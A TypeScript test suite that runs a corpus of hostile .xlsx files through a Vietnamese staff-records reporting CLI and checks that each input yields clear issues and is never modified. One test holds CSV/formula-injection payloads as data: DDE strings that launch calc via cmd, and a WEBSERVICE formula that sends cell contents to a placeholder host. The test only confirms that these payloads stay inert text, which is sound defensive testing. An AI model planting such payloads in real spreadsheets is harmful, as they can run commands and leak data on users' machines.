/**
 * The hostile-input corpus (test/fixtures/hostile, made by test/tools/generateCorpus.ts; its README
 * says what each file holds). Each file goes through what the CLI runs — the .xlsx reader, ingest,
 * the reports, the report writer, the CLI itself in process — and must come out with a clear issue
 * (code, sheet, cell, a Vietnamese message) or the right figures, never a crash, a hang or a silent
 * count; and the file is never written: its sha256 is the same after as before.
 */
import { promises as fs } from 'fs';
import os from 'os';
import path from 'path';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import type { Issue } from '../src/domain/issues';
import type { StaffRecord } from '../src/domain/records';
import { type WorkbookIngest } from '../src/ingest/ingestWorkbook';
import { generateOne } from './helpers/generate';
import { UnreadableWorkbookError } from '../src/workbook/xlsx/readXlsx';
import { writePlanFile } from '../src/workbook/xlsx/writePlanFile';
import { cli, HOSTILE_DIR, read, refused as refusedByAll, untouched, VIETNAMESE } from './helpers/hostile';

const DIR = HOSTILE_DIR;
const OUT = path.join(os.tmpdir(), 'tochuc-fixtures', 'hostile-out');
const PERIOD_2019 = { from: '2019-01-01', to: '2019-12-31' };
const AT = '2021-07-01T00:00:00.000Z';
const SHEET = 'DS CBCCVC';
const ND108 = 'NĐ 108/2014/NĐ-CP';

/** The one issue of this code at this cell, its message in Vietnamese. */
function issueAt(issues: readonly Issue[], where: { sheet?: string; cell: string; code: string | string[]; severity?: Issue['severity'] }): Issue {
  const codes = Array.isArray(where.code) ? where.code : [where.code];
  const found = issues.filter((i) => i.cell === where.cell && (where.sheet === undefined || i.sheet === where.sheet) && codes.includes(i.code));
  expect(found.map((i) => `${i.sheet}!${i.cell} ${i.code}`)).toEqual([`${where.sheet ?? found[0]?.sheet}!${where.cell} ${found[0]?.code ?? codes[0]}`]);
  if (where.severity) expect(found[0].severity).toBe(where.severity);
  expect(found[0].message).toMatch(VIETNAMESE);
  return found[0];
}

const staff = (ingest: WorkbookIngest) => ingest.records.staff as StaffRecord[];
const reduction2019 = (ingest: WorkbookIngest) => generateOne('reduction', ingest, { period: PERIOD_2019, generatedAt: AT });
/** Every cell of a written workbook, sheet by sheet, as exceljs reads it back. */
async function cellsOf(file: string): Promise<Map<string, ExcelJS.Cell[]>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const sheets = new Map<string, ExcelJS.Cell[]>();
  wb.eachSheet((ws) => {
    const cells: ExcelJS.Cell[] = [];
    ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    sheets.set(ws.name, cells);
  });
  return sheets;
}

beforeAll(async () => {
  await fs.mkdir(OUT, { recursive: true });
});

describe('the hostile-input corpus', () => {
  test('01 an empty workbook: no data anywhere, nothing counted, the missing lists said', async () => {
    await untouched('01-empty-workbook.xlsx', async (file) => {
      const { book, ingest } = await read(file);
      expect(book.grids.map((g) => g.name)).toEqual(['Sheet1', 'Sheet2']);
      expect(book.grids.flatMap((g) => g.rows.flat()).every((v) => v == null)).toBe(true);
      expect(ingest.sheets.map((s) => s.kind)).toEqual([undefined, undefined]);
      expect(ingest.issues).toEqual([]);
      const inspect = await cli(['inspect', '--input', file]);
      expect(inspect.code).toBe(0);
      expect(inspect.out).toContain('Trang "Sheet1": không nhận ra');
      const party = generateOne('partyQuarterly', ingest, { period: { from: '2021-04-01', to: '2021-06-30' }, generatedAt: AT });
      issueAt(party.report.issues, { sheet: 'tochuc', cell: 'A1', code: 'members.none', severity: 'error' });
      const reduction = reduction2019(ingest);
      expect(reduction.report.reduced.total).toBe(0);
      // As the party report says members.none, the reduction report must say it has no staff list
      // (docs/reports.md, "reduction": staff is required), not give zeros as if nobody had left.
      issueAt(reduction.report.issues, { sheet: 'tochuc', cell: 'A1', code: 'staff.none', severity: 'error' });
      expect((await cli(['report', 'reduction', '--input', file, '--period', '2019', '--json'])).code).toBe(1);
    });
  }, 20000);

  test('02 a title only: the sheet is not recognised, said at A1', async () => {
    await untouched('02-title-only.xlsx', async (file) => {
      const { book, ingest } = await read(file);
      expect(book.grids[0].rows).toEqual([['DANH SÁCH CÁN BỘ, CÔNG CHỨC, VIÊN CHỨC NĂM 2019']]);
      expect(ingest.sheets[0]).toMatchObject({ sheet: 'Danh sách', records: [] });
      expect(ingest.sheets[0].kind).toBeUndefined();
      const issue = issueAt(ingest.issues, { sheet: 'Danh sách', cell: 'A1', code: 'sheet.unrecognised', severity: 'info' });
      expect(issue.hint).toMatch(VIETNAMESE);
      const reduction = reduction2019(ingest);
      expect(reduction.report.reduced.total).toBe(0);
      issueAt(reduction.report.issues, { sheet: 'tochuc', cell: 'A1', code: 'staff.none', severity: 'error' });
    });
  }, 20000);

  test('03 headers only: a staff list of no one, reported as such', async () => {
    await untouched('03-headers-only.xlsx', async (file) => {
      const { ingest } = await read(file);
      expect(ingest.sheets[0]).toMatchObject({ sheet: SHEET, kind: 'staff', headerRows: [4, 4], records: [], rowsRead: 0 });
      expect(ingest.sheets[0].mapping).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'fullName', col: 1 }), expect.objectContaining({ field: 'unit', col: 4 }), expect.objectContaining({ field: 'basis', col: 10 })]));
      expect(ingest.issues).toEqual([]);
      const { report, plan } = reduction2019(ingest);
      expect(report).toMatchObject({ source: [SHEET], issues: [], reduced: { total: 0, people: [] } });
      expect(plan.sheets.map((s) => s.name)).toEqual(['TGBC 2019', 'Phụ lục TGBC 2019']);
      const run = await cli(['report', 'reduction', '--input', file, '--period', '2019', '--json']);
      expect(run.code).toBe(0);
      expect(JSON.parse(run.out).reduced.total).toBe(0);
    });
  }, 20000);

  test('04 a used range down to row 1,048,576: read fast, the last row\'s problem at E1048576', async () => {
    await untouched('04-sparse-row-1048576.xlsx', async (file) => {
      const started = performance.now();
      const { book, ingest } = await read(file);
      const grid = book.grids[0];
      expect(grid.rows).toHaveLength(1048576);
      expect(grid.rows[1048575][1]).toBe('Nguyễn Văn Cuối');
      // The title rows, the header, four people and the last row: no row made for the empty styled rows or the empty merged column.
      expect(Object.keys(grid.rows).map(Number)).toEqual([0, 1, 3, 4, 5, 6, 7, 1048575]);
      expect(grid.merges).toContainEqual({ top: 3, left: 11, bottom: 1048575, right: 11 });
      expect(staff(ingest).map((r) => r.fullName)).toEqual(['Nguyễn Văn An', 'Trần Thị Bình', 'Lê Văn Cường', 'Phạm Thị Dung']);
      issueAt(ingest.issues, { sheet: SHEET, cell: 'E1048576', code: 'row.missingRequired', severity: 'warning' });
      expect(ingest.issues).toHaveLength(1);
      const { report } = reduction2019(ingest);
      expect(report.reduced).toMatchObject({ total: 2, byForm: { resignation: 1, earlyRetirement: 1 } });
      expect(performance.now() - started).toBeLessThan(10000);
      const run = await cli(['inspect', '--input', file, '--json']);
      expect(run.code).toBe(0);
      expect(JSON.parse(run.out).sheets[0].issues).toEqual([expect.objectContaining({ cell: 'E1048576', code: 'row.missingRequired' })]);
    });
  }, 30000);

  test('05 a column at XFD, the 16,384th: mapped and read there; a stray value there is said where it is', async () => {
    await untouched('05-column-xfd.xlsx', async (file) => {
      const started = performance.now();
      const { book, ingest } = await read(file);
      const rows = book.grids[0].rows;
      expect(rows[3]).toHaveLength(16384);
      expect(rows[3][16383]).toBe('Căn cứ');
      // A row of 16,384 styled empty cells is no row.
      expect(rows[2]).toBeUndefined();
      const sheet = ingest.sheets[0];
      expect(sheet).toMatchObject({ kind: 'staff', headerRows: [4, 4] });
      expect(sheet.mapping).toContainEqual(expect.objectContaining({ field: 'basis', col: 16383, header: 'Căn cứ' }));
      expect(sheet.columns).toContainEqual({ col: 16383, column: 'XFD', header: 'Căn cứ' });
      expect(staff(ingest).map((r) => r.basis)).toEqual([undefined, ND108, ND108, undefined]);
      const { report } = reduction2019(ingest);
      expect(report.reduced.total).toBe(2);
      expect(report.reduced.people.map((p) => p.basis)).toEqual([ND108, ND108]);
      expect(performance.now() - started).toBeLessThan(15000);
      const run = await cli(['inspect', '--input', file, '--json']);
      expect(JSON.parse(run.out).sheets[0].mapping).toContainEqual({ field: 'basis', column: 'XFD', header: 'Căn cứ' });
      // The lone text at XFD9 is no record; the issue must point at it (a click on A9 would show an empty cell 16,383 columns away).
      expect(ingest.issues).toHaveLength(1);
      issueAt(ingest.issues, { sheet: SHEET, cell: 'XFD9', code: 'row.groupHeading', severity: 'info' });
    });
  }, 30000);

  test('06 merged cells: a title over the whole row, a two-row merged header, a unit merged down; a header merged into one cell is no header', async () => {
    await untouched('06-merged-header.xlsx', async (file) => {
      const started = performance.now();
      const { book, ingest } = await read(file);
      const grid = book.grids[0];
      // A1:XFD1 is kept as far as the data goes (J), not spread over 16,384 columns.
      expect(grid.merges).toContainEqual({ top: 0, left: 0, bottom: 0, right: 9 });
      expect(grid.rows[0]).toHaveLength(10);
      const [merged, flat] = ingest.sheets;
      expect(merged).toMatchObject({ sheet: 'DS gộp ô', kind: 'staff', headerRows: [4, 5] });
      expect(merged.mapping).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'birthDate', qualifier: 'male', col: 2 }), expect.objectContaining({ field: 'birthDate', qualifier: 'female', col: 3 })]));
      expect(staff(ingest).map((r) => [r.fullName, r.sex, r.birthDate, r.unit])).toEqual([
        ['Nguyễn Văn An', 'male', '1975-03-12', 'Phòng Nội vụ'],
        ['Trần Thị Bình', 'female', '1980-07-05', 'Phòng Nội vụ'],
        ['Hoàng Văn Giang', 'male', '1985-09-09', 'Phòng Nội vụ'],
        ['Phạm Thị Dung', 'female', '1990-02-02', 'Trung tâm Y tế'],
      ]);
      expect(flat).toMatchObject({ sheet: 'Tiêu đề cột gộp', records: [] });
      expect(flat.kind).toBeUndefined();
      issueAt(ingest.issues, { sheet: 'Tiêu đề cột gộp', cell: 'A1', code: 'sheet.unrecognised', severity: 'info' });
      expect(ingest.issues).toHaveLength(1);
      const { report } = reduction2019(ingest);
      expect(report.reduced.byUnit).toEqual([expect.objectContaining({ unit: 'Phòng Nội vụ', total: 1 })]);
      expect(performance.now() - started).toBeLessThan(10000);
    });
  }, 30000);

  test('07 formulas and error values: an issue at each error cell, never a person or unit named "#N/A"', async () => {
    await untouched('07-formula-errors.xlsx', async (file) => {
      const { book, ingest } = await read(file);
      const rows = book.grids.find((g) => g.name === SHEET)!.rows;
      // Cached results are read: errors as their text, a date formula's number as its date, a formula never calculated as blank.
      expect([rows[4][2], rows[5][4], rows[6][8], rows[7][2], rows[7][4], rows[7][8], rows[8][4], rows[9][1]]).toEqual([
        '#REF!', '#N/A', '#VALUE!', new Date(Date.UTC(1990, 1, 2)), 'Trung tâm Y tế', new Date(Date.UTC(2019, 11, 31)), null, '#REF!',
      ]);
      issueAt(ingest.issues, { sheet: SHEET, cell: 'C5', code: ['date.invalid', 'cell.formulaError'], severity: 'warning' });
      const left = issueAt(ingest.issues, { sheet: SHEET, cell: 'I7', code: ['date.invalid', 'cell.formulaError'], severity: 'error' });
      expect(left.message).toContain('#VALUE!');
      issueAt(ingest.issues, { sheet: SHEET, cell: 'E9', code: 'row.missingRequired', severity: 'warning' });
      const dung = staff(ingest).find((r) => r.fullName === 'Phạm Thị Dung');
      expect(dung).toMatchObject({ birthDate: '1990-02-02', unit: 'Trung tâm Y tế', status: 'reduced', leftDate: '2019-12-31' });
      const { report } = reduction2019(ingest);
      const merger = generateOne('merger', ingest, { generatedAt: AT });
      expect(merger.report.unitsBefore).toBe(2);
      expect(report.reduced.people.map((p) => p.fullName)).toContain('Phạm Thị Dung');
      expect(report.reduced.people.map((p) => p.fullName)).not.toContain('Lê Văn Cường');
      // An error value is no unit and no name: an issue at E6 and at B10, and no one counted under "#N/A" or as "#REF!".
      expect(staff(ingest).map((r) => r.unit)).not.toContain('#N/A');
      expect(staff(ingest).map((r) => r.fullName)).not.toContain('#REF!');
      expect(issueAt(ingest.issues, { sheet: SHEET, cell: 'E6', code: 'cell.formulaError' }).message).toContain('#N/A');
      expect(issueAt(ingest.issues, { sheet: SHEET, cell: 'B10', code: 'cell.formulaError' }).message).toContain('#REF!');
      expect(report.reduced.total).toBe(1);
    });
  }, 20000);

  test('08 hyperlinks: names, units and a basis read as their text; units joined to the units sheet', async () => {
    await untouched('08-hyperlinks.xlsx', async (file) => {
      const { ingest } = await read(file);
      expect(ingest.sheets.map((s) => s.kind)).toEqual(['staff', 'units']);
      expect(staff(ingest).map((r) => [r.fullName, r.unit])).toEqual([
        ['Nguyễn Văn An', 'Phòng Nội vụ'],
        ['Trần Thị Bình', 'Phòng Nội vụ'],
        ['Lê Văn Cường', 'Văn phòng HĐND và UBND'],
        ['Phạm Thị Dung', 'Trung tâm Y tế'],
      ]);
      expect(staff(ingest)[1].basis).toBe(ND108);
      expect(ingest.issues).toEqual([]);
      const { report } = reduction2019(ingest);
      expect(report.issues).toEqual([]);
      expect(report.reduced.byUnit.map((u) => [u.unit, u.total])).toEqual([['Phòng Nội vụ', 1], ['Văn phòng HĐND và UBND', 1]]);
      expect(report.quota.byUnit.map((u) => [u.unit, u.current, u.activeStaff])).toEqual([['Phòng Nội vụ', 10, 1], ['Văn phòng HĐND và UBND', 18, 0], ['Trung tâm Y tế', 38, 1]]);
    });
  }, 20000);

  test('09 cells of 32,767 characters: read whole, written whole, and no written cell over Excel\'s limit', async () => {
    await untouched('09-cells-32767-chars.xlsx', async (file) => {
      const long = (seed: string) => seed.repeat(Math.ceil(32767 / seed.length)).slice(0, 32767);
      const basis = long('Nghị định 108/2014/NĐ-CP về chính sách tinh giản biên chế; ');
      const unit = long('Văn phòng HĐND và UBND thành phố Móng Cái, ');
      const name = long('Phạm Thị Dung ');
      const { book, ingest } = await read(file);
      const rows = book.grids[0].rows;
      expect([rows[5][10], rows[6][4], rows[7][1]]).toEqual([basis, unit, name]);
      expect((rows[8][8] as string).length).toBe(32767);
      const leftDate = issueAt(ingest.issues, { sheet: SHEET, cell: 'I9', code: 'date.invalid', severity: 'error' });
      // The message quotes the start of the cell, not all of it.
      expect(leftDate.message.length).toBeLessThan(300);
      expect(leftDate.message).toContain('…');
      const { report, plan } = reduction2019(ingest);
      expect(report.reduced.people.map((p) => [p.fullName, p.unit, p.basis])).toEqual([
        ['Trần Thị Bình', 'Phòng Nội vụ', basis],
        [name, 'Trung tâm Y tế', ND108],
        ['Lê Văn Cường', unit, ND108],
      ]);
      const out = path.join(OUT, '09-report.xlsx');
      await writePlanFile(out, plan);
      const sheets = await cellsOf(out);
      expect([...sheets.keys()]).toEqual(expect.arrayContaining(['TGBC 2019', 'Phụ lục TGBC 2019', 'Vấn đề TGBC 2019']));
      const texts = [...sheets.values()].flat().map((c) => c.value).filter((v): v is string => typeof v === 'string');
      expect(Math.max(...texts.map((t) => t.length))).toBe(32767);
      // The long texts of the data are written whole; the issue quoting one is cut to fit, and says so.
      const appendix = sheets.get('Phụ lục TGBC 2019')!.map((c) => c.value);
      expect(appendix).toEqual(expect.arrayContaining([basis, unit, name]));
      const quoted = sheets.get('Vấn đề TGBC 2019')!.map((c) => c.value).find((v) => typeof v === 'string' && v.startsWith('Ngày nghỉ không hợp lệ')) as string;
      expect(quoted).toBe(leftDate.message);
    });
  }, 40000);

  test('10 text that looks like a formula or a placeholder stays text, in the data and in the report written', async () => {
    await untouched('10-formula-injection.xlsx', async (file) => {
      const names = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '{{reduced.total}}', '=1+1'];
      const units = ['Phòng Nội vụ', '-2+3', '@SUM(1)', '=1+1', '{{#each reduced.people}}', "=cmd|'/C calc'!A0"];
      const { ingest } = await read(file);
      expect(staff(ingest).map((r) => [r.fullName, r.unit])).toEqual(names.map((n, i) => [n, units[i]]));
      expect(staff(ingest)[3].basis).toBe('=WEBSERVICE("http://x/?"&A1)');
      expect(ingest.issues).toEqual([]);
      const out = path.join(OUT, '10-report.xlsx');
      const run = await cli(['report', 'reduction', '--input', file, '--period', '2019', '--out', out]);
      expect(run.code).toBe(0);
      expect(run.err).not.toMatch(/\n\s+at /);
      const sheets = await cellsOf(out);
      const appendix = sheets.get('Phụ lục TGBC 2019')!;
      for (const text of [...names, ...units, '=WEBSERVICE("http://x/?"&A1)', "'=1+1"]) {
        const cells = appendix.filter((c) => c.value === text);
        expect({ text, found: cells.length > 0 }).toEqual({ text, found: true });
        for (const c of cells) expect({ text, type: c.type, formula: c.formula }).toEqual({ text, type: ExcelJS.ValueType.String, formula: undefined });
      }
      // The report's own formulas (its totals) are there, and none of them is one of the data's.
      const formulas = [...sheets.values()].flat().filter((c) => c.type === ExcelJS.ValueType.Formula).map((c) => c.formula);
      expect(formulas.length).toBeGreaterThan(0);
      expect(formulas.filter((f) => /HYPERLINK|cmd|WEBSERVICE|@|^1\+1$|-2\+3/.test(f))).toEqual([]);
      // In the file itself: every <f> is one of those totals.
      const parts = unzipSync(await fs.readFile(out));
      const fs_ = Object.entries(parts).filter(([n]) => n.startsWith('xl/worksheets/')).flatMap(([, bytes]) => [...strFromU8(bytes).matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]));
      expect(fs_.filter((f) => /HYPERLINK|cmd|WEBSERVICE/.test(f))).toEqual([]);
    });
  }, 40000);

  test('11 TCVN3, VNI and Unicode mixed in one column: all read as Unicode, one unit from three spellings, each encoding said', async () => {
    await untouched('11-mixed-legacy-text.xlsx', async (file) => {
      const { ingest } = await read(file);
      const people = staff(ingest);
      expect(people.map((r) => r.fullName)).toEqual(['Nguyễn Văn An', 'Nguyễn Văn Bình', 'Nguyễn Văn Bình', 'Dương Thị Thu Hương', 'Trần Thị Bích Ngọc', 'Lê Văn Cường', 'Bùi Hà Tú', 'Lò Văn Ú']);
      expect(people.every((r) => r.fullName === r.fullName.normalize('NFC') && r.unit === r.unit.normalize('NFC'))).toBe(true);
      expect(people.map((r) => r.unit)).toEqual(['Phòng Nội vụ', 'Phòng Nội vụ', 'Phòng Nội vụ', 'Phòng Nội vụ', 'Văn phòng HĐND và UBND', 'Văn phòng HĐND và UBND', 'Văn phòng HĐND và UBND', 'Phòng Nội vụ']);
      // "ngµy 12 th¸ng 3 n¨m 1975": a TCVN3 date in words.
      expect(people[1].birthDate).toBe('1975-03-12');
      expect(ingest.issues.filter((i) => i.code === 'person.duplicate')).toEqual([]);
      issueAt(ingest.issues, { sheet: SHEET, cell: 'C6', code: 'text.legacyConverted', severity: 'info' });
      const { report } = reduction2019(ingest);
      expect(report.reduced.byUnit.map((u) => [u.unit, u.total])).toEqual([['Phòng Nội vụ', 3]]);
      // Both columns hold TCVN3 and VNI: what is said must name both, not call the VNI cells TCVN3.
      for (const column of ['B', 'E']) {
        const said = ingest.issues.filter((i) => i.code === 'text.legacyConverted' && i.cell.startsWith(column)).map((i) => i.message).join(' ');
        expect({ column, tcvn3: /TCVN3/.test(said), vni: /VNI/.test(said) }).toEqual({ column, tcvn3: true, vni: true });
      }
    });
  }, 20000);

  test('12 the same person twice: a person.duplicate warning at the later row, none for namesakes born on other days', async () => {
    await untouched('12-duplicate-person.xlsx', async (file) => {
      const { ingest } = await read(file);
      expect(staff(ingest)).toHaveLength(6);
      const duplicates = ingest.issues.filter((i) => i.code === 'person.duplicate');
      expect(duplicates.map((i) => [i.sheet, i.severity, i.cell.replace(/^[A-Z]+/, '')])).toEqual([[SHEET, 'warning', '8'], [SHEET, 'warning', '9']]);
      expect(duplicates[0].message).toContain('Nguyễn Văn An');
      // Row 9 writes the birth date as a date, row 6 as text: the same day.
      expect(duplicates[1].message).toContain('Trần Thị Bình');
      for (const d of duplicates) expect(d.message).toMatch(VIETNAMESE);
      expect(duplicates.map((d) => d.message).join(' ')).not.toContain('Nguyễn Văn Hùng');
    });
  }, 20000);

  test('13 dates before 1900 and in 2100: text read as written, Excel serials as Excel shows them, the impossible ones at their cells', async () => {
    await untouched('13-dates-1899-2100.xlsx', async (file) => {
      const { book, ingest } = await read(file);
      const rows = book.grids[0].rows;
      const utc = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d));
      // A negative serial and 0 are no day to Excel (##### and 00/01/1900); serials 1 and 59 are 01/01 and 28/02/1900, as Excel counts.
      expect([rows[5][2], rows[6][2], rows[7][2], rows[8][2], rows[10][2], rows[10][8]]).toEqual([-290, utc(1900, 1, 1), utc(1900, 2, 28), 0, utc(2100, 1, 1), utc(2100, 12, 31)]);
      expect(staff(ingest).map((r) => [r.fullName, r.birthDate ?? null, r.leftDate ?? null])).toEqual([
        ['Nguyễn Văn An', '1899-03-15', null],
        ['Trần Thị Bình', null, null],
        ['Lê Văn Cường', '1900-01-01', null],
        ['Phạm Thị Dung', '1900-02-28', null],
        ['Hoàng Văn Em', null, null],
        ['Vũ Thị Giang', '2100-01-01', '2100-01-01'],
        ['Đặng Văn Hải', '2100-01-01', '2100-12-31'],
        ['Bùi Thị Lan', null, null],
        ['Đỗ Văn Minh', '1899-12-31', '2019-06-15'],
        ['Ngô Thị Nga', null, null],
      ]);
      issueAt(ingest.issues, { sheet: SHEET, cell: 'C6', code: 'date.outOfRange', severity: 'warning' });
      issueAt(ingest.issues, { sheet: SHEET, cell: 'C9', code: 'date.outOfRange', severity: 'warning' });
      expect(issueAt(ingest.issues, { sheet: SHEET, cell: 'C12', code: 'date.invalid', severity: 'warning' }).message).toContain('29/02/2100');
      issueAt(ingest.issues, { sheet: SHEET, cell: 'I12', code: 'date.invalid', severity: 'error' });
      issueAt(ingest.issues, { sheet: SHEET, cell: 'C14', code: 'date.outOfRange', severity: 'warning' });
      issueAt(ingest.issues, { sheet: SHEET, cell: 'I14', code: 'date.outOfRange', severity: 'error' });
      expect(ingest.issues).toHaveLength(6);
      expect(reduction2019(ingest).report.reduced.people.map((p) => p.fullName)).toEqual(['Đỗ Văn Minh']);
      const run = await cli(['report', 'reduction', '--input', file, '--period', '2100', '--json']);
      expect(run.code).toBe(1);
      expect(JSON.parse(run.out).reduced.people.map((p: { fullName: string; leftDate: string }) => [p.fullName, p.leftDate])).toEqual([['Vũ Thị Giang', '2100-01-01'], ['Đặng Văn Hải', '2100-12-31']]);
    });
  }, 20000);

  /** Refused by the reader and the CLI, and by exceljs, the reference engine, as the same kind of file. */
  const refused = (file: string, kind: UnreadableWorkbookError['kind']) => refusedByAll(file, kind, { referenceEngine: true });

  test('14 a password-protected workbook: exit 2, "remove the password" with the menu to do it', async () => {
    await untouched('14-password-protected.xlsx', async (file) => {
      const message = await refused(file, 'encrypted');
      expect(message).toMatch(/có mật khẩu/);
      expect(message).toContain('Tệp › Thông tin › Bảo vệ Sổ làm việc');
      expect(message).toContain('File › Info › Protect Workbook');
      expect(message).not.toMatch(/hỏng/);
      // The same file given as a template is refused the same way.
      const run = await cli(['report', 'reduction', '--input', path.join(DIR, '03-headers-only.xlsx'), '--period', '2019', '--template', file]);
      expect(run).toEqual({ code: 2, out: '', err: message });
    });
  }, 20000);

  test('14 an Excel 97–2003 .xls renamed .xlsx: exit 2, "save it as .xlsx"', async () => {
    await untouched('14-old-xls-renamed.xlsx', async (file) => {
      const message = await refused(file, 'xls');
      expect(message).toMatch(/97–2003 \(\.xls\)/);
      expect(message).toMatch(/lưu lại dưới dạng .*\.xlsx/);
      expect(message).not.toMatch(/mật khẩu|hỏng/);
    });
  }, 20000);

  test('14 a cut-off zip: exit 2, "not a valid .xlsx or damaged", no word of a password', async () => {
    await untouched('14-truncated-zip.xlsx', async (file) => {
      const message = await refused(file, 'damaged');
      expect(message).toMatch(/không phải tệp Excel \.xlsx hợp lệ hoặc đã bị hỏng/);
      expect(message).toMatch(/zip bị hỏng/);
      expect(message).not.toMatch(/mật khẩu/);
    });
  }, 20000);

  test('14 random bytes named .xlsx: exit 2, "not a valid .xlsx or damaged"', async () => {
    await untouched('14-random-bytes.xlsx', async (file) => {
      const message = await refused(file, 'damaged');
      expect(message).toMatch(/không phải tệp Excel \.xlsx hợp lệ hoặc đã bị hỏng/);
      expect(message).not.toMatch(/mật khẩu/);
      // Nothing is made of it by the reports either: the CLI stops before them.
      expect((await cli(['report', 'merger', '--input', file, '--json'])).code).toBe(2);
    });
  }, 20000);
});

